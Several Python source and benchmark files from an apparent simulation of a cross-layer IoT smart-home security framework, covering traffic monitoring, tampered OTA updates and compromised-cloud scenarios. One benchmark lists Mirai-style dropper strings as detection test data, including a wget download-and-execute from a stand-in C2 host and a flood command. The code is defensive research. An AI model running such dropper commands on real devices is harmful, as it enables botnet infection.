        elif payload.get("kind") == "event" and payload.get("attribute") == "state":
            claimed = payload.get("value")
        if claimed is None:
            return
        profile = self._profiles[device]
        previous = self._last_state.get(device, "")
        if previous and claimed not in profile.states:
            self.deviations.append((now, device, "impossible-state"))
            self._report(SecuritySignal.make(
                Layer.NETWORK, SignalType.BEHAVIOR_DEVIATION,
                "activity-detector", device, now,
                severity=Severity.CRITICAL, state=claimed,
            ))
        elif previous and not profile.transition_allowed(previous, claimed):
            self.deviations.append((now, device, "illegal-transition"))
            self._report(SecuritySignal.make(
                Layer.NETWORK, SignalType.BEHAVIOR_DEVIATION,
                "activity-detector", device, now,
                severity=Severity.WARNING,
                from_state=previous, to_state=claimed,
            ))
        self._last_state[device] = claimed


@register
class ActivityDetectorFunction(SecurityFunction):
    """Plugin: DFA/scan/DDoS malicious-activity identification (§IV-B.3)."""

    layer = Layer.NETWORK
    name = "activity-detector"
    order = 20
    accessor = "activity_detector"

    def attach(self, host) -> None:
        detector = MaliciousActivityDetector(host.sim,
                                             host.report_for(self.name))
        for device in host.devices:
            profile = DeviceBehaviorProfile.from_device_spec(
                device.spec,
                {device.cloud_address} if device.cloud_address else set(),
            )
            detector.register_device(device.name, profile)
        self.instance = detector

    def link_observer(self):
        return self.instance.observe
