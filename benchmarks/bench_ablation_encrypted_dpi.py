"""A4 — ablation: encrypted-traffic inspection options (§IV-B.2).

The paper rejects TLS-interception middleboxes ("this breaks the
end-to-end security of SSL") in favour of BlindBox-style searchable
encryption.  This ablation pushes a stream of update payloads — some
carrying dropper/C2 strings — through the gateway monitor under three
regimes and reports catch rate and what the middlebox could read:

* plaintext DPI (no encryption at all);
* opaque TLS (end-to-end encryption, no tokens);
* searchable tokens (end-to-end encryption + BlindBox tokens).
"""

import pytest

from benchmarks.conftest import emit
from repro.metrics import format_table
from repro.network.packet import Packet
from repro.network.protocols.tls import CertificateAuthority, TlsSession
from repro.security.network.monitor import EncryptedTrafficMonitor
from repro.sim import Simulator

TOKEN_KEY = b"gateway-blindbox-key"

MALICIOUS_PAYLOADS = [
    "wget http://c2.evil/bot; chmod +x bot",
    "tftp -g -r payload 198.18.0.66",
    "mirai loader stage2",
    "attack flood udp 198.18.0.99",
]
BENIGN_PAYLOADS = [
    "firmware version 2.1.0 changelog: stability fixes",
    "configuration sync heartbeat",
    "telemetry batch upload",
    "certificate rotation notice",
]


def payload_keywords(text):
    return text.replace(";", " ").split()


def run_regime(regime):
    sim = Simulator(seed=5)
    monitor = EncryptedTrafficMonitor(
        sim, token_key=TOKEN_KEY if regime == "searchable" else None,
        block_matches=True)
    ca = CertificateAuthority()
    cert = ca.issue("updates.example.com", b"pub")
    session = TlsSession.handshake(
        b"client", cert, ca,
        token_key=TOKEN_KEY if regime == "searchable" else None)
    caught = 0
    false_positives = 0
    plaintext_readable = 0
    for text, malicious in (
        [(p, True) for p in MALICIOUS_PAYLOADS]
        + [(p, False) for p in BENIGN_PAYLOADS]
    ):
        if regime == "plaintext":
            packet = Packet(src="a", dst="b", payload={"update": text},
                            encrypted=False, src_device="updater")
            plaintext_readable += 1
        else:
            keywords = payload_keywords(text) if regime == "searchable" else ()
            record = session.wrap({"update": text}, keywords=keywords)
            packet = Packet(src="a", dst="b", payload=record,
                            encrypted=True, src_device="updater")
        rule = monitor.inspect(packet)
        if rule is not None and malicious:
            caught += 1
        elif rule is not None and not malicious:
            false_positives += 1
    return {
        "caught": caught,
        "total_malicious": len(MALICIOUS_PAYLOADS),
        "false_positives": false_positives,
        "plaintext_readable": plaintext_readable,
        "opaque": monitor.opaque_packets,
    }


@pytest.fixture(scope="module")
def regime_results():
    return {regime: run_regime(regime)
            for regime in ("plaintext", "opaque-tls", "searchable")}


def test_a4_dpi_regimes(benchmark, regime_results):
    benchmark.pedantic(lambda: run_regime("searchable"),
                       rounds=1, iterations=1)
    rows = []
    for regime, r in regime_results.items():
        rows.append([
            regime,
            f"{r['caught']}/{r['total_malicious']}",
            r["false_positives"],
            "yes" if r["plaintext_readable"] else "no",
            "no" if regime == "plaintext" else "yes",
        ])
    emit("A4 — update inspection regimes: catch rate vs. privacy",
         format_table(
             ["regime", "malware caught", "false positives",
              "middlebox reads plaintext", "end-to-end encryption"],
             rows))


def test_a4_searchable_matches_plaintext_catch_rate(benchmark,
                                                    regime_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert regime_results["searchable"]["caught"] == \
        regime_results["plaintext"]["caught"] == len(MALICIOUS_PAYLOADS)


def test_a4_opaque_tls_catches_nothing(benchmark, regime_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert regime_results["opaque-tls"]["caught"] == 0
    assert regime_results["opaque-tls"]["opaque"] == \
        len(MALICIOUS_PAYLOADS) + len(BENIGN_PAYLOADS)


def test_a4_searchable_preserves_end_to_end_secrecy(benchmark,
                                                    regime_results):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    assert regime_results["searchable"]["plaintext_readable"] == 0
    assert regime_results["searchable"]["false_positives"] == 0
