"""A6 — ablation: XLF Core at the edge vs. in the cloud (§IV-D, §IV-C.2).

The paper weighs two homes for the Core — the smart gateway ("edge")
or the cloud — and argues for the user end because cloud-hosted
verification "will become unreliable once the cloud gets compromised."

Scenario: the cloud itself is compromised; it tampers an OTA campaign
*and* runs a hidden-command rogue app.  We compare:

* **edge placement** — XLF's verifier and update inspector run at the
  gateway, consuming only gateway-observable traffic (our default);
* **cloud placement** — monitoring consumes the cloud's own audit
  records, which a compromised platform censors.
"""

import pytest

from benchmarks.conftest import emit
from repro.attacks import MaliciousOtaUpdate
from repro.core import XLF, XlfConfig
from repro.core.signals import SignalType
from repro.device.device import Vulnerabilities
from repro.metrics import format_table
from repro.scenarios import SmartHome, SmartHomeConfig
from repro.service.capabilities import Capability
from repro.service.smartapps import CommandRequest, SmartApp


def build_compromised_cloud_scenario(edge_xlf: bool):
    home = SmartHome(SmartHomeConfig(
        devices=[("thermostat", Vulnerabilities(unsigned_firmware=True)),
                 ("smart_lock", Vulnerabilities()),
                 ("camera", Vulnerabilities())],
        cloud_coarse_grants=True,
    ))
    home.run(5.0)
    xlf = None
    if edge_xlf:
        xlf = XLF(home.sim, home.gateway, home.cloud, home.devices,
                  home.all_lan_links, XlfConfig.full())
        xlf.refresh_allowlists()
    # The compromised cloud pushes tampered firmware...
    ota = MaliciousOtaUpdate(home)
    ota.launch()
    # ...and runs its own hidden-command app (unlock the door at will).
    lock_id = home.device_ids["smart_lock-1"]
    camera_id = home.device_ids["camera-1"]
    hidden = SmartApp(
        "cloud-helper", {Capability.LOCK, Capability.CAMERA},
        hidden_commands=[CommandRequest("cloud-helper", lock_id, "unlock")],
    )
    home.cloud.install_app(hidden)
    home.cloud.subscribe_app_to_all("cloud-helper")
    home.run(home.sim.now + 120.0)
    return home, xlf, ota


def cloud_side_view(home):
    """What a cloud-hosted monitor sees: the platform's own records —
    which the compromised platform sanitises."""
    if home.cloud.compromised:
        return {"violations": 0, "ota_flags": 0}
    return {
        "violations": len(home.cloud.denied_commands),
        "ota_flags": 0,  # the platform never flags its own campaigns
    }


@pytest.fixture(scope="module")
def placements():
    edge_home, edge_xlf, edge_ota = build_compromised_cloud_scenario(True)
    cloud_home, _none, cloud_ota = build_compromised_cloud_scenario(False)
    return {
        "edge": (edge_home, edge_xlf, edge_ota),
        "cloud": (cloud_home, cloud_side_view(cloud_home), cloud_ota),
    }


def test_a6_placement_table(benchmark, placements):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    edge_home, edge_xlf, edge_ota = placements["edge"]
    cloud_home, cloud_view, cloud_ota = placements["cloud"]
    rows = [
        [
            "edge (gateway XLF)",
            "blocked" if not edge_ota.outcome().succeeded else "installed",
            edge_xlf.bus.count_by_type(SignalType.APP_VIOLATION),
            edge_xlf.bus.count_by_type(SignalType.MALWARE_SIGNATURE),
            len(edge_xlf.alerts),
        ],
        [
            "cloud (platform self-audit)",
            "installed" if cloud_ota.outcome().succeeded else "blocked",
            cloud_view["violations"],
            cloud_view["ota_flags"],
            0,
        ],
    ]
    emit("A6 — XLF Core placement under a compromised cloud",
         format_table(
             ["placement", "tampered OTA", "app violations seen",
              "malware flags", "alerts"],
             rows))


def test_a6_edge_survives_cloud_compromise(benchmark, placements):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    edge_home, edge_xlf, edge_ota = placements["edge"]
    # The gateway blocked the tampered image in flight...
    assert not edge_ota.outcome().succeeded
    assert edge_xlf.bus.count_by_type(SignalType.MALWARE_SIGNATURE) >= 1
    # ...and saw the hidden unlock command no installed rule explains.
    assert edge_xlf.bus.count_by_type(SignalType.APP_VIOLATION) >= 1
    assert edge_home.device("smart_lock-1")


def test_a6_cloud_hosted_monitoring_is_blind(benchmark, placements):
    benchmark.pedantic(lambda: None, rounds=1, iterations=1)
    cloud_home, cloud_view, cloud_ota = placements["cloud"]
    # The undefended device installed the tampered firmware...
    assert cloud_ota.outcome().succeeded
    # ...the hidden command reached the lock...
    assert cloud_home.device("smart_lock-1").state == "unlocked"
    # ...and the compromised platform's self-audit reports nothing.
    assert cloud_view["violations"] == 0
    assert cloud_view["ota_flags"] == 0
