"""Home-prototype cache: build each distinct topology once, clone the rest.

BENCH_xlf.json measured home construction and XLF install rivalling the
simulation itself in fleet throughput — every home in a fleet re-ran
device creation, DNS/cloud wiring, and firmware signing even though most
fleets are N copies of one :class:`~repro.scenarios.spec.HomeSpec`.

This module makes scenario instantiation O(distinct topologies):

* The first time a :class:`HomeSpec` is materialised, the cache builds a
  **prototype**: a :class:`~repro.scenarios.smarthome.SmartHome`
  constructed with ``defer_pairing=True`` — the full static world
  (environment, links, gateway, cloud, DNS records, devices) with *no*
  traffic on the wire, *no* scheduled callbacks, and *no* consumed RNG
  streams.  That pristine state is snapshotted with :mod:`pickle` and
  keyed by the spec's canonical hash.
* Every later home with the same topology is ``pickle.loads`` of the
  snapshot plus :meth:`~repro.sim.rng.RngRegistry.reseed` — microseconds
  instead of milliseconds — and then paired exactly like a fresh home.

Determinism contract (enforced, not assumed): a cloned-and-reseeded home
is **byte-identical** to a freshly built one.  Three properties make
that hold, and the cache verifies the first two at snapshot time:

1. the prototype's event queue is empty and its clock is zero (nothing
   world-specific is in flight), and
2. every RNG stream is *pristine* (created but never drawn from), so
   re-seeding produces exactly the state a fresh build would have; and
3. construction emits no telemetry (all counters/spans fire at traffic
   time, which happens after the clone point).

Any spec that cannot be snapshotted — an unpicklable component, a
consumed stream — falls back to a fresh per-home build.  The fallback is
never silent: each one increments the ``fleet.clone_fallbacks`` counter
(labelled with the reason) so slow paths show up in telemetry.  A
``copy.deepcopy`` fallback is deliberately **not** offered: deepcopy
treats function objects as atomic, so a world whose pickling failed on a
closure would deep-copy "successfully" while silently sharing state with
the prototype — the exact wrongness the byte-identical contract forbids.
"""

from __future__ import annotations

import os
import pickle
from dataclasses import dataclass
from typing import TYPE_CHECKING, Dict, Optional

from repro.scenarios.smarthome import SmartHome
from repro import telemetry as _telemetry

if TYPE_CHECKING:
    from repro.scenarios.spec import HomeSpec

# The seed prototypes are built under.  Arbitrary: nothing seed-derived
# survives in a pristine snapshot (that is what reseed() relies on).
_PROTOTYPE_SEED = 0


@dataclass
class _Entry:
    """One distinct topology: its snapshot, or why it has none."""

    blob: Optional[bytes] = None
    fallback_reason: Optional[str] = None   # None => cloneable


class PrototypeCache:
    """Spec-hash-keyed cache of pristine, cloneable home snapshots."""

    def __init__(self, enabled: Optional[bool] = None):
        if enabled is None:
            enabled = os.environ.get("REPRO_PROTOTYPES", "1") != "0"
        self.enabled = enabled
        self._entries: Dict[str, _Entry] = {}
        # Plain attributes, not telemetry: builds-per-worker depends on
        # scheduling, and per-home telemetry must stay byte-identical
        # between serial and parallel runs.
        self.builds = 0
        self.clones = 0
        self.fallbacks = 0

    def clear(self) -> None:
        self._entries.clear()
        self.builds = self.clones = self.fallbacks = 0

    # -- building ----------------------------------------------------------
    def _build_entry(self, home_spec: "HomeSpec") -> _Entry:
        self.builds += 1
        home = SmartHome(home_spec.build_config(_PROTOTYPE_SEED),
                         defer_pairing=True)
        if home.sim._queue or home.sim.now != 0.0:
            return _Entry(fallback_reason="events-in-flight")
        if not home.sim.rng.pristine():
            return _Entry(fallback_reason="consumed-rng-stream")
        try:
            blob = pickle.dumps(home, protocol=pickle.HIGHEST_PROTOCOL)
        except Exception:
            return _Entry(fallback_reason="unpicklable-world")
        return _Entry(blob=blob)

    def warm(self, home_spec: "HomeSpec") -> bool:
        """Ensure the prototype for ``home_spec`` exists (e.g. in the
        parent before forking workers, so snapshots ride in via
        copy-on-write).  Returns True if the spec is cloneable."""
        if not self.enabled:
            return False
        key = home_spec.topology_hash()
        entry = self._entries.get(key)
        if entry is None:
            entry = self._build_entry(home_spec)
            self._entries[key] = entry
        return entry.fallback_reason is None

    # -- materialising -----------------------------------------------------
    def materialise(self, home_spec: "HomeSpec", seed: int) -> SmartHome:
        """A ready (pairing-begun) home for ``home_spec`` under ``seed``
        — cloned from the prototype when possible, freshly built when
        not, byte-identical either way."""
        if not self.enabled:
            return SmartHome(home_spec.build_config(seed))
        key = home_spec.topology_hash()
        entry = self._entries.get(key)
        if entry is None:
            entry = self._build_entry(home_spec)
            self._entries[key] = entry
        if entry.fallback_reason is not None:
            self.fallbacks += 1
            if _telemetry.ENABLED:
                _telemetry.registry().counter(
                    "fleet.clone_fallbacks",
                    reason=entry.fallback_reason).inc()
            return SmartHome(home_spec.build_config(seed))
        home = pickle.loads(entry.blob)
        home.sim.seed = seed
        home.sim.rng.reseed(seed)
        home.config.seed = seed
        home.begin_pairing()
        self.clones += 1
        return home


PROTOTYPES = PrototypeCache()
