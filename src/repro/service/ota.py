"""Over-the-air update distribution (§III-C).

"A robust OTA update mechanism is a core part of a system's
architecture" — the service publishes vendor-signed images and pushes
them to paired devices through the cloud's device channel.  The
compromised-cloud attack swaps a campaign's image for a malicious one;
whether devices survive depends on their FirmwareStore policy, and
whether the *network* catches it depends on the §IV-B.2 monitor.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.device.firmware import FirmwareImage


@dataclass
class UpdateCampaign:
    """One rollout of an image to a device model."""

    campaign_id: str
    model: str                    # device type targeted
    image: FirmwareImage
    pushed_to: List[str] = field(default_factory=list)      # device ids
    results: Dict[str, bool] = field(default_factory=dict)  # device id -> ok


class OtaService:
    """The cloud's update pipeline."""

    def __init__(self):
        self._campaigns: Dict[str, UpdateCampaign] = {}
        self._published: Dict[Tuple[str, str], FirmwareImage] = {}  # (model, version)
        self.push_log: List[Tuple[str, str, str]] = []  # (campaign, device, version)

    def publish(self, image: FirmwareImage) -> None:
        """Vendor-side: make an image available for campaigns."""
        self._published[(image.model, image.version)] = image

    def published_versions(self, model: str) -> List[str]:
        return sorted(v for (m, v) in self._published if m == model)

    def create_campaign(self, campaign_id: str, model: str,
                        version: str) -> UpdateCampaign:
        key = (model, version)
        if key not in self._published:
            raise KeyError(f"no published image for {model} v{version}")
        if campaign_id in self._campaigns:
            raise ValueError(f"campaign {campaign_id!r} already exists")
        campaign = UpdateCampaign(campaign_id, model, self._published[key])
        self._campaigns[campaign_id] = campaign
        return campaign

    def get_campaign(self, campaign_id: str) -> Optional[UpdateCampaign]:
        return self._campaigns.get(campaign_id)

    def tamper_campaign(self, campaign_id: str,
                        malicious_image: FirmwareImage) -> None:
        """A compromised cloud swaps the payload (attack hook)."""
        campaign = self._campaigns[campaign_id]
        campaign.image = malicious_image

    def record_push(self, campaign_id: str, device_id: str) -> FirmwareImage:
        campaign = self._campaigns[campaign_id]
        campaign.pushed_to.append(device_id)
        self.push_log.append((campaign_id, device_id, campaign.image.version))
        return campaign.image

    def record_result(self, campaign_id: str, device_id: str,
                      installed: bool) -> None:
        self._campaigns[campaign_id].results[device_id] = installed

    def campaign_success_rate(self, campaign_id: str) -> float:
        campaign = self._campaigns[campaign_id]
        if not campaign.results:
            return 0.0
        return sum(campaign.results.values()) / len(campaign.results)
