"""Security signals and alerts — the XLF Core's common vocabulary.

A :class:`SecuritySignal` is a layer function's raw observation ("this
device failed three logins", "this flow matched a C&C rule").  An
:class:`Alert` is the Core's conclusion after aggregation/correlation.
Keeping the two distinct is what makes the F4 benchmark meaningful:
single-layer operation turns signals into alerts with no corroboration,
cross-layer operation correlates first.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Dict, Tuple

_alert_ids = itertools.count(1)


class Layer(Enum):
    DEVICE = "device"
    NETWORK = "network"
    SERVICE = "service"
    CORE = "core"


class SignalType(Enum):
    # device layer
    AUTH_FAILURE = "auth_failure"
    AUTH_ANOMALY = "auth_anomaly"
    FIRMWARE_REJECTED = "firmware_rejected"
    MALWARE_SIGNATURE = "malware_signature"
    PLAINTEXT_TRAFFIC = "plaintext_traffic"
    WEAK_CREDENTIALS = "weak_credentials"
    OPEN_INSECURE_SERVICE = "open_insecure_service"
    # network layer
    SCAN_PATTERN = "scan_pattern"
    DDOS_PATTERN = "ddos_pattern"
    C2_KEYWORD = "c2_keyword"
    BEHAVIOR_DEVIATION = "behavior_deviation"
    UNKNOWN_DESTINATION = "unknown_destination"
    DNS_ANOMALY = "dns_anomaly"
    # service layer
    API_ABUSE = "api_abuse"
    APP_VIOLATION = "app_violation"
    EVENT_SPOOFING = "event_spoofing"
    TELEMETRY_ANOMALY = "telemetry_anomaly"
    OVERPRIVILEGE = "overprivilege"
    EXFILTRATION = "exfiltration"
    POLICY_CONTEXT = "policy_context"


class Severity(Enum):
    INFO = 1
    WARNING = 2
    CRITICAL = 3

    def __lt__(self, other: "Severity") -> bool:
        return self.value < other.value


@dataclass(frozen=True)
class SecuritySignal:
    """One raw observation from a layer function."""

    layer: Layer
    signal_type: SignalType
    source: str                     # function that raised it
    device: str                     # device name/id, or "" for global
    timestamp: float
    severity: Severity = Severity.WARNING
    details: Tuple[Tuple[str, Any], ...] = ()

    @staticmethod
    def make(layer: Layer, signal_type: SignalType, source: str, device: str,
             timestamp: float, severity: Severity = Severity.WARNING,
             **details: Any) -> "SecuritySignal":
        return SecuritySignal(
            layer=layer, signal_type=signal_type, source=source,
            device=device, timestamp=timestamp, severity=severity,
            details=tuple(sorted(details.items())),
        )

    @property
    def detail_dict(self) -> Dict[str, Any]:
        return dict(self.details)


@dataclass
class Alert:
    """The Core's conclusion about an incident."""

    category: str                   # e.g. "botnet-infection"
    device: str
    timestamp: float
    severity: Severity
    confidence: float               # [0, 1]
    contributing_signals: Tuple[SecuritySignal, ...]
    alert_id: int = field(default_factory=lambda: next(_alert_ids))

    @property
    def layers_involved(self) -> Tuple[Layer, ...]:
        return tuple(sorted({s.layer for s in self.contributing_signals},
                            key=lambda layer: layer.value))

    @property
    def cross_layer(self) -> bool:
        return len(self.layers_involved) >= 2

    @property
    def detection_latency_s(self) -> "float | None":
        """Seconds from the earliest contributing observation to the
        alert — the correlator's time-to-conclusion.  None when the
        alert carries no signals (synthetic/test alerts)."""
        if not self.contributing_signals:
            return None
        first = min(s.timestamp for s in self.contributing_signals)
        return self.timestamp - first
