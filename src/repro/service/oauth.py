"""OAuth2-style tokens and scopes for the cloud's APIs (§IV-C.1).

"Each API call should be assigned an API token to validate incoming
queries" — tokens carry scopes, an expiry, and a bearer; the API layer
enforces scope on every route.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from enum import Enum
from typing import Dict, List, Optional, Set

from repro.crypto.hashes import lightweight_digest
from repro.sim import Simulator

_token_counter = itertools.count(1)


class Scope(Enum):
    READ_DEVICES = "devices:read"
    CONTROL_DEVICES = "devices:control"
    MANAGE_APPS = "apps:manage"
    PUSH_UPDATES = "updates:push"      # privileged: OTA
    ADMIN = "admin"


@dataclass
class Token:
    value: str
    subject: str                    # user or service identity
    scopes: Set[Scope]
    issued_at: float
    expires_at: float
    revoked: bool = False
    sso: bool = False               # issued through the SSO flow
    mfa_verified: bool = False

    def valid_at(self, now: float) -> bool:
        return not self.revoked and self.issued_at <= now < self.expires_at

    def allows(self, scope: Scope) -> bool:
        return Scope.ADMIN in self.scopes or scope in self.scopes


class OAuthServer:
    """Issues, introspects, and revokes tokens."""

    DEFAULT_LIFETIME_S = 3600.0

    def __init__(self, sim: Simulator, secret: bytes = b"oauth-server-secret"):
        self.sim = sim
        self._secret = secret
        self._tokens: Dict[str, Token] = {}
        self.issued_count = 0

    def issue(self, subject: str, scopes: Set[Scope],
              lifetime_s: Optional[float] = None,
              sso: bool = False, mfa_verified: bool = False) -> Token:
        lifetime = lifetime_s if lifetime_s is not None else self.DEFAULT_LIFETIME_S
        if lifetime <= 0:
            raise ValueError(f"non-positive token lifetime {lifetime}")
        serial = next(_token_counter)
        value = lightweight_digest(
            self._secret + subject.encode() + serial.to_bytes(8, "big")
        ).hex()
        token = Token(
            value=value, subject=subject, scopes=set(scopes),
            issued_at=self.sim.now, expires_at=self.sim.now + lifetime,
            sso=sso, mfa_verified=mfa_verified,
        )
        self._tokens[value] = token
        self.issued_count += 1
        return token

    def introspect(self, value: str) -> Optional[Token]:
        """The token if it exists and is currently valid, else None."""
        token = self._tokens.get(value)
        if token is None or not token.valid_at(self.sim.now):
            return None
        return token

    def revoke(self, value: str) -> bool:
        token = self._tokens.get(value)
        if token is None:
            return False
        token.revoked = True
        return True

    def revoke_subject(self, subject: str) -> int:
        count = 0
        for token in self._tokens.values():
            if token.subject == subject and not token.revoked:
                token.revoked = True
                count += 1
        return count

    def set_lifetime(self, value: str, expires_at: float) -> bool:
        """Adjust a token's lifetime (XLF Core's correlation-driven policy)."""
        token = self._tokens.get(value)
        if token is None:
            return False
        token.expires_at = expires_at
        return True

    def active_tokens(self) -> List[Token]:
        return [t for t in self._tokens.values() if t.valid_at(self.sim.now)]
