"""The XLF facade: wire a smart-home world to the full framework.

Fig. 4 as code.  Given the substrate (gateway, cloud, devices, links),
:class:`XLF` installs the selected layer functions and the Core, and
exposes the signals/alerts for evaluation.  Layers toggle independently
so the F4 benchmark can run device-only, network-only, service-only,
and full cross-layer configurations of the *same* world.

Trust model note: the gateway is the pairing point and holds device
session keys (the delegation proxy provisions them), so gateway-resident
functions may read managed devices' payloads; passive third parties on
the same links cannot (see :mod:`repro.network.capture`).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.core.bus import CoreBus
from repro.core.correlator import CrossLayerCorrelator
from repro.core.policy import TokenLifetimePolicy
from repro.core.signals import Alert, Layer, SecuritySignal
from repro.device.device import IoTDevice
from repro.network.gateway import Gateway
from repro.network.node import Link
from repro.security.device.access import ConstrainedAccess
from repro.security.device.auth import DelegationProxy
from repro.security.device.encryption import EncryptionPolicy
from repro.security.device.malware import UpdateInspector
from repro.security.network.activity import (
    DeviceBehaviorProfile,
    MaliciousActivityDetector,
)
from repro.security.network.monitor import EncryptedTrafficMonitor
from repro.security.network.shaping import ShapingConfig, TrafficShaper
from repro.security.service.analytics import SecurityAnalytics
from repro.security.service.api_guard import ApiGuard
from repro.security.service.appverify import ApplicationVerifier
from repro.service.cloud import CloudPlatform
from repro.sim import Simulator


@dataclass
class XlfConfig:
    """Which parts of XLF to enable."""

    enable_device_layer: bool = True
    enable_network_layer: bool = True
    enable_service_layer: bool = True
    cross_layer: bool = True              # False: per-layer standalone alerts
    single_layer: Optional[Layer] = None  # evaluate one layer alone
    shaping: ShapingConfig = field(default_factory=ShapingConfig.off)
    monitor_token_key: Optional[bytes] = b"xlf-blindbox-key"
    block_matched_traffic: bool = True
    # Periodic housekeeping: silence audit, overprivilege/exfiltration
    # re-audits.  0 disables the loop.
    audit_interval_s: float = 60.0

    @staticmethod
    def full() -> "XlfConfig":
        return XlfConfig()

    @staticmethod
    def off() -> "XlfConfig":
        return XlfConfig(enable_device_layer=False,
                         enable_network_layer=False,
                         enable_service_layer=False, cross_layer=False)

    @staticmethod
    def only(layer: Layer) -> "XlfConfig":
        return XlfConfig(
            enable_device_layer=layer == Layer.DEVICE,
            enable_network_layer=layer == Layer.NETWORK,
            enable_service_layer=layer == Layer.SERVICE,
            cross_layer=False,
            single_layer=layer,
        )


class XLF:
    """The framework instance for one home."""

    def __init__(self, sim: Simulator, gateway: Gateway,
                 cloud: CloudPlatform, devices: List[IoTDevice],
                 lan_links: List[Link],
                 config: Optional[XlfConfig] = None):
        self.sim = sim
        self.gateway = gateway
        self.cloud = cloud
        self.devices = list(devices)
        self.lan_links = list(lan_links)
        self.config = config or XlfConfig.full()
        self.bus = CoreBus(sim)
        self.correlator = CrossLayerCorrelator(
            self.bus,
            single_layer=self.config.single_layer
            if not self.config.cross_layer else None,
        )
        self.token_policy = TokenLifetimePolicy(self.bus, self.correlator)
        self._address_to_device: Dict[str, IoTDevice] = {}
        self._id_to_device: Dict[str, IoTDevice] = {}
        # Layer functions (populated by install()).
        self.encryption_policy: Optional[EncryptionPolicy] = None
        self.auth_proxy: Optional[DelegationProxy] = None
        self.update_inspector: Optional[UpdateInspector] = None
        self.constrained_access: Optional[ConstrainedAccess] = None
        self.traffic_shaper: Optional[TrafficShaper] = None
        self.traffic_monitor: Optional[EncryptedTrafficMonitor] = None
        self.activity_detector: Optional[MaliciousActivityDetector] = None
        self.api_guard: Optional[ApiGuard] = None
        self.app_verifier: Optional[ApplicationVerifier] = None
        self.analytics: Optional[SecurityAnalytics] = None
        self.install()

    # -- wiring ------------------------------------------------------------------
    def install(self) -> None:
        report = self.bus.report
        for device in self.devices:
            if device.interfaces:
                self._address_to_device[device.address] = device
        self._rebuild_id_index()

        if self.config.enable_device_layer:
            self.encryption_policy = EncryptionPolicy(self.sim, report)
            for device in self.devices:
                self.encryption_policy.assign(device.name, device.profile)
                self.encryption_policy.audit_device(device)
            for link in self.lan_links:
                link.add_observer(self.encryption_policy.observe)
            self.auth_proxy = DelegationProxy(
                self.sim, self.cloud.identity, self.cloud.oauth, report
            )
            self.update_inspector = UpdateInspector(self.sim, report=report)
            self.gateway.ingress_middleware.append(self._ota_inspection)
            self.constrained_access = ConstrainedAccess(self.sim, report)
            self.refresh_allowlists()
            self.gateway.egress_middleware.append(self.constrained_access)

        if self.config.enable_network_layer:
            self.traffic_monitor = EncryptedTrafficMonitor(
                self.sim,
                token_key=self.config.monitor_token_key,
                block_matches=self.config.block_matched_traffic,
                report=report,
            )
            self.gateway.egress_middleware.append(self.traffic_monitor)
            self.gateway.ingress_middleware.append(self.traffic_monitor)
            for link in self.lan_links:
                link.add_observer(self.traffic_monitor.observe)
            self.activity_detector = MaliciousActivityDetector(self.sim, report)
            for device in self.devices:
                profile = DeviceBehaviorProfile.from_device_spec(
                    device.spec,
                    {device.cloud_address} if device.cloud_address else set(),
                )
                self.activity_detector.register_device(device.name, profile)
            for link in self.lan_links:
                link.add_observer(self.activity_detector.observe)
            if self.config.shaping.enabled:
                self.traffic_shaper = TrafficShaper(self.sim,
                                                    self.config.shaping)
                self.gateway.egress_middleware.append(self.traffic_shaper)

        if self.config.enable_service_layer:
            self.api_guard = ApiGuard(self.sim, self.cloud.api, report)

            def display_name(device_id: str) -> str:
                owner = self._device_by_id(device_id)
                return owner.name if owner is not None else device_id

            self.app_verifier = ApplicationVerifier(
                self.sim, report, display_name=display_name)
            self.app_verifier.learn_rules(self.cloud.installed_apps())
            self.analytics = SecurityAnalytics(self.sim, report)
            for link in self.lan_links:
                link.add_observer(self._service_layer_observer)
            if self.config.audit_interval_s > 0:
                self.sim.every(self.config.audit_interval_s,
                               self._periodic_audit, name="xlf-audit")

    def _periodic_audit(self) -> None:
        if self.analytics is not None:
            self.analytics.audit_silence()
        if self.app_verifier is not None:
            self.app_verifier.audit_overprivilege(self.cloud)
            self.app_verifier.audit_exfiltration(self.cloud)

    def _ota_inspection(self, packet, direction):
        """Device-layer §IV-A.4: examine updates before they reach devices."""
        payload = packet.payload
        if isinstance(payload, dict) and payload.get("kind") == "ota":
            image = payload.get("image")
            if image is not None and self.update_inspector is not None:
                target = self._address_to_device.get(packet.dst)
                verdict = self.update_inspector.inspect(
                    image, target.name if target else packet.dst)
                if verdict == "malware":
                    return []
        return [(0.0, packet)]

    def refresh_allowlists(self) -> None:
        """Re-learn each device's legitimate destinations (vendor cloud,
        DNS).  Call after pairing completes if XLF was installed first."""
        # Pairing is also when cloud device ids land, so refresh the
        # id -> device index alongside the allowlists.
        self._rebuild_id_index()
        if self.constrained_access is None:
            return
        for device in self.devices:
            if device.cloud_address:
                self.constrained_access.allow(device.name,
                                              device.cloud_address)
            # Public DNS is always legitimate.
            self.constrained_access.allow(device.name, "198.51.100.2")
            self.constrained_access.allow(
                device.name, f"{self.gateway.lan_prefix}.1")

    def _service_layer_observer(self, packet) -> None:
        """Feed the service-layer monitors from gateway-visible traffic."""
        payload = packet.payload
        if not isinstance(payload, dict):
            return
        kind = payload.get("kind")
        if kind == "telemetry" and self.analytics is not None:
            device_id = payload.get("device_id", "")
            # Signals must share one device key across layers or the
            # correlator cannot join them: use the device *name*.
            owner = self._device_by_id(device_id)
            device_key = owner.name if owner is not None else device_id
            readings = payload.get("readings", {})
            # Sensor-less devices still produce a message cadence the
            # silence audit needs, so ingest even with empty readings.
            self.analytics.ingest_telemetry(device_key, readings)
            if self.app_verifier is not None:
                self.app_verifier.note_event(
                    device_id, "state", payload.get("state"))
                for attribute, value in readings.items():
                    self.app_verifier.note_event(device_id, attribute, value)
        elif kind == "event":
            device_id = payload.get("device_id", "")
            if self.app_verifier is not None:
                self.app_verifier.note_event(
                    device_id, payload.get("attribute", ""),
                    payload.get("value"))
            # Spoofing check: the claimed device must be the actual sender.
            owner = self._device_by_id(device_id)
            if owner is not None and packet.src_device != owner.name:
                from repro.core.signals import Severity, SignalType
                self.bus.report(SecuritySignal.make(
